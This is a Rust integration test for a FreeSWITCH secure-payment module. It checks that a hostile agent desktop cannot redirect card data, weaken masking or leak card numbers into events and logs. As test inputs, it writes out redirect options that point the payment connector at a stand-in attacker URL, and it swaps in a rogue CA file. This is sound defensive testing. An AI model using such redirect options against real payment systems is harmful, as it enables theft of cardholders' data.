//! Issue #9 end to end on a REAL FreeSWITCH: a hostile agent desktop (anyone with event-socket
//! credentials that can run `uuid_secure_pay`) tries to read or redirect the card.
//!
//! The admin's secure_pay.conf.xml has one connector profile (loopback HTTPS server, test CA),
//! `pan_display = last4`, no generic fields. Through `uuid_secure_pay <uuid> ...` the hostile
//! desktop tries per-call options that redirect the card (`connector.evil.url`,
//! `connector.acme.url`, `connector.acme.ca_file`), weaken masking (`lookahead_ms=0`) or widen the
//! display (`pan_display=first6last4`): each refused (`-ERR`, naming the key) with no session
//! started; then `capture reference` / `capture amount` on the running session: refused.
//! A second loopback listener plays the attacker's server and must get NO connection (control:
//! the counter sees the test's own connection); the honest submit reaches the admin's server.
//! Every event, API response, the customer channel's variables (`uuid_dump`) and the
//! FreeSWITCH log are scanned for the card number (any layout), the security code and the
//! hidden expiry (control: the scan finds them in a string that has them).
//! Needs FreeSWITCH at $FREESWITCH_PREFIX (default /opt/freeswitch), else SKIPPED.
#![cfg(feature = "freeswitch")]

#[path = "connector_common/mod.rs"]
mod connector_common;
mod freeswitch_support;

use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use connector_common::{http, Pki, TestServer, Versions};
use freeswitch_support::*;

const PAN: &str = "4111111111111111";
const EXPIRY: &str = "0829";
const VISA_CVV: &str = "739";

/// The attacker's server: counts every TCP connection (TLS or not) and drops it.
fn attacker() -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let n = Arc::new(AtomicUsize::new(0));
    let n2 = n.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            n2.fetch_add(1, Ordering::SeqCst);
            drop(c);
        }
    });
    (port, n)
}

/// Card data in `text`: the card number in any common layout, or the security code / expiry as
/// a digit group of their own.
fn leak(text: &str) -> Option<&'static str> {
    let squeezed: String = text
        .chars()
        .filter(|c| !matches!(c, ' ' | '-' | '.' | '/' | '_' | ',' | '+'))
        .collect();
    if squeezed.contains(PAN) {
        return Some("card number");
    }
    // Channel uuids are random hex: a group like `-c739-` or `-0829-` is not card data.
    let text = strip_uuids(text);
    for g in text.split(|c: char| !c.is_ascii_alphanumeric()) {
        if g == VISA_CVV {
            return Some("security code");
        }
        if g == EXPIRY {
            return Some("expiry");
        }
    }
    None
}

/// `text` with every 8-4-4-4-12 hex uuid replaced by `<uuid>`.
fn strip_uuids(text: &str) -> String {
    let b = text.as_bytes();
    let is_uuid = |w: &[u8]| {
        w.len() == 36
            && w.iter().enumerate().all(|(i, &c)| match i {
                8 | 13 | 18 | 23 => c == b'-',
                _ => c.is_ascii_hexdigit(),
            })
    };
    let (mut out, mut i) = (String::with_capacity(text.len()), 0);
    while i < b.len() {
        if i + 36 <= b.len() && text.is_char_boundary(i + 36) && is_uuid(&b[i..i + 36]) {
            out.push_str("<uuid>");
            i += 36;
        } else {
            let c = text[i..].chars().next().unwrap_or(' ');
            out.push(c);
            i += c.len_utf8();
        }
    }
    out
}

fn scan_all(what: &str, texts: &[String]) {
    for t in texts {
        assert_eq!(leak(t), None, "{what}: {t}");
    }
}

#[test]
fn hostile_agent_desktop_cannot_read_or_redirect_the_card() {
    let Some(prefix) = prefix() else { return };
    // Control for the scan.
    assert_eq!(
        leak("SecurePay-Masked: 4111111111111111"),
        Some("card number")
    );
    assert_eq!(leak("x 4111 1111 1111 1111 y"), Some("card number"));
    assert_eq!(leak("SecurePay-Masked: 739"), Some("security code"));
    assert_eq!(leak("SecurePay-Masked: 0829"), Some("expiry"));
    assert_eq!(leak("SecurePay-Card-Number: ************1111"), None);
    // a channel uuid whose random hex has the code or expiry as a group is not a leak...
    assert_eq!(
        leak("Unique-ID: 5a1e0c2b-0829-4c3d-c739-0123456789ab"),
        None
    );
    // ...but the same digits next to one still are
    assert_eq!(
        leak("Unique-ID: 5a1e0c2b-0829-4c3d-a739-0123456789ab cvv 739"),
        Some("security code")
    );

    let pki = Pki::new();
    let server = TestServer::start(
        &pki.server,
        None,
        Versions::Any,
        http(
            "200 OK",
            r#"{"charge_id":"ch_admin_1","error_code":null,"error_message":null}"#,
        ),
    );
    let (evil_port, evil_hits) = attacker();
    drop(std::net::TcpStream::connect(("127.0.0.1", evil_port)).unwrap());
    let t0 = Instant::now();
    while evil_hits.load(Ordering::SeqCst) == 0 && t0.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert_eq!(
        evil_hits.load(Ordering::SeqCst),
        1,
        "control: attacker counter"
    );
    evil_hits.store(0, Ordering::SeqCst);

    let kv = |k: &str, v: &str| (k.to_string(), v.to_string());
    let fs = FreeSwitch::start(
        &prefix,
        &Options {
            secure_pay_settings: vec![
                kv("connector", "acme"),
                kv("pan_display", "last4"),
                kv("charge_amount", "1999"),
            ],
            connectors: vec![(
                "acme".into(),
                vec![
                    kv("url", &format!("https://127.0.0.1:{}/pay", server.port)),
                    kv("ca_file", &pki.ca_file),
                    kv("timeout_ms", "5000"),
                ],
            )],
            ..Options::default()
        },
    );
    let mut esl = fs.esl();
    let mut ev = fs.esl();
    ev.subscribe("plain CUSTOM secure_pay::start secure_pay::capture secure_pay::digit secure_pay::field secure_pay::complete secure_pay::submit secure_pay::stop secure_pay::error secure_pay::status secure_pay::cancel");
    let mut responses: Vec<String> = Vec::new();
    let mut api = |esl: &mut Esl, cmd: &str| -> String {
        let r = esl.api(cmd);
        responses.push(r.clone());
        r
    };

    let (cust_a, cust) = originate_customer(&mut esl, "cust1");
    std::thread::sleep(Duration::from_millis(400));
    let evil = format!("https://127.0.0.1:{evil_port}/x");
    for (opts, key) in [
        (
            format!("connector=evil,connector.evil.url={evil}"),
            "connector.evil.url",
        ),
        (format!("connector.acme.url={evil}"), "connector.acme.url"),
        (
            "connector.acme.ca_file=/tmp/evil-ca.pem".to_string(),
            "connector.acme.ca_file",
        ),
        ("lookahead_ms=0".to_string(), "lookahead_ms"),
        ("pan_display=first6last4".to_string(), "pan_display"),
        (
            "fields=payment-card-number,reference".to_string(),
            "reference is not allowed",
        ),
    ] {
        let r = api(&mut esl, &format!("uuid_secure_pay {cust} start {opts}"));
        assert!(r.starts_with("-ERR"), "{opts}: {r}");
        assert!(r.contains(key), "{opts}: {r}");
        let s = api(&mut esl, &format!("uuid_secure_pay {cust} status"));
        assert_eq!(s.trim(), "+OK inactive", "{opts}: state changed");
    }

    let r = api(&mut esl, &format!("uuid_secure_pay {cust} start"));
    assert!(r.starts_with("+OK"), "honest start: {r}");
    let mut events: Vec<EslEvent> = Vec::new();
    let mut wait = |ev: &mut Esl, sub: &str, within: Duration| -> Option<EslEvent> {
        let deadline = Instant::now() + within;
        while let Some(left) = deadline.checked_duration_since(Instant::now()) {
            let e = ev.next_event(left)?;
            events.push(e.clone());
            if e.get("Event-Subclass") == Some(&format!("secure_pay::{sub}"))
                && e.get("Unique-ID") == Some(&cust)
            {
                return Some(e);
            }
        }
        None
    };
    let st = wait(&mut ev, "start", Duration::from_secs(3)).expect("start event");
    assert_eq!(st.get("SecurePay-Connector"), Some("acme"));
    let r = api(
        &mut esl,
        &format!("uuid_secure_pay {cust} start connector.acme.url={evil}"),
    );
    assert!(r.starts_with("-ERR"), "second start: {r}");
    for f in ["reference", "amount", "ref"] {
        let r = api(&mut esl, &format!("uuid_secure_pay {cust} capture {f}"));
        assert!(r.starts_with("-ERR"), "capture {f}: {r}");
        assert!(
            r.contains("is not allowed on this call"),
            "capture {f}: {r}"
        );
    }
    let s = api(&mut esl, &format!("uuid_secure_pay {cust} status"));
    assert!(
        s.contains("SecurePay-Field: payment-card-number"),
        "state unchanged: {s}"
    );

    let complete = keyed_with_one_retry(
        &mut esl,
        &cust,
        &mut |esl| send_keys(esl, &cust_a, &format!("{PAN}#{EXPIRY}{VISA_CVV}"), 250),
        &mut |_| wait(&mut ev, "complete", Duration::from_secs(10)),
    )
    .expect("complete");
    assert_eq!(
        complete.get("SecurePay-Card-Number"),
        Some("************1111")
    );
    let r = api(
        &mut esl,
        &format!("uuid_secure_pay {cust} capture reference"),
    );
    assert!(r.starts_with("-ERR"), "capture after complete: {r}");
    // Channel variables while the card is held.
    let dump = api(&mut esl, &format!("uuid_dump {cust}"));
    assert!(
        dump.contains("Unique-ID"),
        "control: uuid_dump answered: {dump}"
    );

    let r = api(&mut esl, &format!("uuid_secure_pay {cust} submit"));
    assert!(r.starts_with("+OK"), "submit: {r}");
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut outcome = None;
    while Instant::now() < deadline {
        if let Some(e) = wait(&mut ev, "submit", Duration::from_secs(1)) {
            if e.get("SecurePay-Result") != Some("pending") {
                outcome = Some(e);
                break;
            }
        }
    }
    let outcome = outcome.expect("submit outcome");
    assert_eq!(outcome.get("SecurePay-Result"), Some("success"));
    let got = server.received();
    assert_eq!(got.len(), 1, "one hand-off to the admin's profile");
    assert_eq!(
        got[0].body["cardnumber"], PAN,
        "control: the admin's PSP got the card"
    );
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        evil_hits.load(Ordering::SeqCst),
        0,
        "the attacker's server got a connection"
    );

    let _ = esl.api(&format!("uuid_kill {cust_a}"));
    let _ = wait(&mut ev, "stop", Duration::from_secs(3));
    std::thread::sleep(Duration::from_millis(500));
    events.extend(ev.drain(Duration::from_millis(300)));

    assert!(events.len() >= 5, "control: events were recorded");
    let ev_texts: Vec<String> = events
        .iter()
        .map(|e| {
            let mut s: Vec<String> = e.headers.iter().map(|(k, v)| format!("{k}: {v}")).collect();
            s.sort();
            format!("{}\n{}", s.join("\n"), e.body)
        })
        .collect();
    scan_all("event", &ev_texts);
    scan_all("API response", &responses);
    let log = fs.log_text();
    assert!(log.contains("secure_pay"), "control: the log was read");
    let lines: Vec<String> = log.lines().map(str::to_string).collect();
    scan_all("FreeSWITCH log", &lines);
    assert_eq!(evil_hits.load(Ordering::SeqCst), 0);
}
